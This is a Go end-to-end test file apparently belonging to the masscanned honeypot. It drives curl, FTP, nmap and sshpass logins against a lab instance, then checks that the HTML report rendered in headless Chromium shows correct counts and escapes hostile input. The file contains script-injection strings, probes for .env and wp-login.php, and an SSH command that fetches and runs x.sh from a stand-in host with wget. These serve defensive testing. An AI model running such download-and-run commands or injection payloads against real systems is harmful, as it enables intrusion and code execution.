package e2e

import (
	"bytes"
	"context"
	"fmt"
	"image"
	"image/png"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"
)

// xssUA and xssPass are attacker-controlled strings that must reach the
// report as text, never as markup.
const (
	xssUA   = `<script>alert("ua")</script>`
	xssPass = `<script>alert(2)</script>`
)

// reportTraffic runs real clients against a lab's masscanned: ping, curl
// with a password and a hostile user agent, curl over TLS, an FTP login,
// an nmap connect scan, SSH logins with sshpass (one refused, one
// accepted that runs a command naming a URL), and returns the events
// file once masscanned has stopped.
func reportTraffic(t *testing.T) (*Lab, string) {
	t.Helper()
	l := NewLab(t, LabOptions{})
	l.Start("--ssh-accept-after", "1", "--idle-timeout", "3s")
	if out, err := l.InClient(10*time.Second, "ping", "-c", "3", "-i", "0.2", RespIP4); err != nil {
		t.Errorf("ping: %v\n%s", err, out)
	}
	if out, err := l.InClient(10*time.Second, "ping", "-6", "-c", "2", "-i", "0.2", RespIP6); err != nil {
		t.Errorf("ping -6: %v\n%s", err, out)
	}
	if out, err := l.InClient(10*time.Second, "curl", "-s", "-o", "/dev/null", "--max-time", "5",
		"-u", "admin:hunter2", "-A", xssUA, "http://"+RespIP4+"/admin"); err != nil {
		t.Errorf("curl: %v\n%s", err, out)
	}
	if out, err := l.InClient(10*time.Second, "curl", "-s", "-o", "/dev/null", "--max-time", "5",
		"http://["+RespIP6+"]:8080/wp-login.php"); err != nil {
		t.Errorf("curl -6: %v\n%s", err, out)
	}
	if out, err := l.InClient(20*time.Second, "curl", "-sk", "-o", "/dev/null", "--max-time", "10",
		"https://"+RespIP4+"/.env"); err != nil {
		t.Errorf("curl https: %v\n%s", err, out)
	}
	_, _ = l.InClient(20*time.Second, "curl", "-s", "--max-time", "10", "ftp://bob:secret@"+RespIP4+"/")
	if out, err := l.InClient(60*time.Second, "nmap", "-n", "-Pn", "-sT", "-p", "21,22,23,80,443,3306,5900,8080", RespIP4); err != nil || !strings.Contains(out, "80/tcp") {
		t.Errorf("nmap: %v\n%s", err, out)
	}
	warmSSH(t, l)
	ssh := func(pw, user, cmd string) (string, error) {
		return l.InClient(30*time.Second, "sshpass", "-p", pw, "ssh", "-o", "StrictHostKeyChecking=no",
			"-o", "UserKnownHostsFile=/dev/null", "-o", "PreferredAuthentications=password", "-o", "PubkeyAuthentication=no",
			"-o", "NumberOfPasswordPrompts=1", "-o", "ConnectTimeout=10", user+"@"+RespIP4, cmd)
	}
	// every first password is accepted and the command recorded
	if out, err := ssh(xssPass, "admin", "id"); err != nil {
		t.Errorf("ssh login: %v\n%s", err, out)
	}
	if out, err := ssh("hunter2", "root", "cd /tmp; wget http://203.0.113.7/x.sh; sh x.sh"); err != nil {
		t.Errorf("ssh accepted login: %v\n%s", err, out)
	}
	// let connections end (idle timeout) so that every conn-end is written
	time.Sleep(4 * time.Second)
	if err := l.Stop(); err != nil {
		t.Fatalf("stop: %v\n%s", err, l.Stderr())
	}
	return l, filepath.Join(l.Dir, "masscanned.stdout")
}

// chromium runs headless Chromium (no sandbox: the tests run as root)
// with args and the page, returning its stdout and stderr.
func chromium(t *testing.T, dir string, args ...string) ([]byte, string) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 120*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, "chromium", append([]string{"--headless", "--no-sandbox", "--disable-gpu",
		"--no-first-run", "--disable-extensions", "--user-data-dir=" + filepath.Join(dir, "chromium")}, args...)...)
	cmd.Env = append(os.Environ(), "HOME="+dir)
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("chromium %v: %v\n%s", args, err, stderr.String())
	}
	return out, stderr.String()
}

// TestReport: the events of a run under real clients (ping, curl with a
// password and a hostile user agent, HTTPS, FTP, nmap, SSH logins with
// sshpass and a command) become a report that headless Chromium renders:
// the screenshot is not blank, and the numbers Chromium's DOM shows are
// the events' own.
func TestReport(t *testing.T) {
	Require(t, "curl", "ping", "nmap", "ssh", "sshpass", "ssh-keyscan", "chromium")
	t.Parallel()
	l, events := reportTraffic(t)
	evs := l.Events()

	// what the page must say, from the events themselves
	verdicts := map[string]int{}
	sources := map[string]bool{}
	creds, credsOK, cmds := 0, 0, 0
	for _, e := range evs {
		verdicts[e.Str("verdict")]++
		if s := e.Str("ip_src"); s != "" {
			sources[s] = true
		}
		if a := e.App(); a != nil {
			if au, ok := a["auth"].(map[string]any); ok {
				creds++
				if au["success"] == true {
					credsOK++
				}
			}
			if c, ok := a["command"]; ok && c != "" {
				cmds++
			}
		}
	}
	if creds < 4 || credsOK < 2 || cmds < 2 {
		t.Fatalf("the run recorded %d credentials (%d accepted), %d commands: the clients did not get through", creds, credsOK, cmds)
	}

	page := filepath.Join(l.Dir, "report.html")
	cmd := exec.Command(Binary(t), "report", "-o", page, events)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("masscanned report: %v\n%s", err, out)
	}
	url := "file://" + page

	// the screenshot: decoded, and far from one flat colour
	shot := filepath.Join(l.Dir, "report.png")
	chromium(t, l.Dir, "--screenshot="+shot, "--window-size=1280,2400", "--hide-scrollbars", url)
	f, err := os.Open(shot)
	if err != nil {
		t.Fatal(err)
	}
	img, err := png.Decode(f)
	f.Close()
	if err != nil {
		t.Fatalf("screenshot: %v", err)
	}
	if b := img.Bounds(); b.Dx() != 1280 || b.Dy() != 2400 {
		t.Errorf("screenshot %v", b)
	}
	checkNotBlank(t, img)

	// the numbers, from the DOM Chromium built (scripts ran, CSS applied)
	domb, console := chromium(t, l.Dir, "--enable-logging=stderr", "--dump-dom", url)
	dom := string(domb)
	// the sort script is the one the page's CSP allows (by its hash)
	if strings.Contains(console, "Content Security Policy") {
		t.Errorf("the page violates its own Content-Security-Policy:\n%s", console)
	}
	for id, want := range map[string]int{
		"total-events": len(evs), "verdict-total": len(evs),
		"verdict-send": verdicts["send"], "verdict-recv": verdicts["recv"], "verdict-drop": verdicts["drop"],
		"total-credentials": creds, "total-commands": cmds, "total-sources": len(sources),
	} {
		if got := domNumber(t, dom, id); got != want {
			t.Errorf("%s: the page says %d, the events %d", id, got, want)
		}
	}
	if !strings.Contains(dom, fmt.Sprintf("%d accepted", credsOK)) {
		t.Errorf("the page does not say %d credentials were accepted", credsOK)
	}
	// what the clients sent is there, as text
	for _, s := range []string{"hunter2", "bob", "secret", "http://203.0.113.7/x.sh",
		"cd /tmp; wget http://203.0.113.7/x.sh; sh x.sh", "https://" + RespIP4 + "/.env",
		"&lt;script&gt;alert(\"ua\")&lt;/script&gt;", "&lt;script&gt;alert(2)&lt;/script&gt;", "SSH-2.0-OpenSSH"} {
		if !strings.Contains(dom, s) {
			t.Errorf("the page lacks %q", s)
		}
	}
	// the hostile strings stayed text: the one script is ours
	if n := strings.Count(dom, "<script"); n != 1 {
		t.Errorf("%d script elements in the DOM", n)
	}
	if testing.Verbose() {
		t.Logf("report: %s, screenshot: %s", page, shot)
	}
}

// checkNotBlank fails unless the image has many pixels far from its
// dominant (background) colour and a real spread of colours.
func checkNotBlank(t *testing.T, img image.Image) {
	t.Helper()
	b := img.Bounds()
	hist := map[[3]uint8]int{}
	for y := b.Min.Y; y < b.Max.Y; y += 2 {
		for x := b.Min.X; x < b.Max.X; x += 2 {
			r, g, bb, _ := img.At(x, y).RGBA()
			hist[[3]uint8{uint8(r >> 8), uint8(g >> 8), uint8(bb >> 8)}]++
		}
	}
	var bg [3]uint8
	total, most := 0, 0
	for c, n := range hist {
		total += n
		if n > most {
			bg, most = c, n
		}
	}
	far := 0
	for c, n := range hist {
		d := 0
		for i := range c {
			d += abs(int(c[i]) - int(bg[i]))
		}
		if d > 60 {
			far += n
		}
	}
	t.Logf("screenshot: %d colours, background %v on %.1f%%, %.1f%% of pixels far from it", len(hist), bg, 100*float64(most)/float64(total), 100*float64(far)/float64(total))
	if len(hist) < 50 || float64(far) < 0.05*float64(total) {
		t.Errorf("the screenshot looks blank: %d colours, %d of %d pixels far from the background", len(hist), far, total)
	}
}

func abs(x int) int {
	if x < 0 {
		return -x
	}
	return x
}

// domNumber reads the number shown by the element with id (thousands
// separators and a leading "≥ " removed).
func domNumber(t *testing.T, dom, id string) int {
	t.Helper()
	re := regexp.MustCompile(`id="` + regexp.QuoteMeta(id) + `"[^>]*>(?:<span class="bar"[^>]*></span><span class="n">)?([^<]*)<`)
	m := re.FindStringSubmatch(dom)
	if m == nil {
		t.Fatalf("no element %q in the DOM", id)
	}
	n, err := strconv.Atoi(strings.ReplaceAll(m[1], ",", ""))
	if err != nil {
		t.Fatalf("%s: %q is not a number", id, m[1])
	}
	return n
}
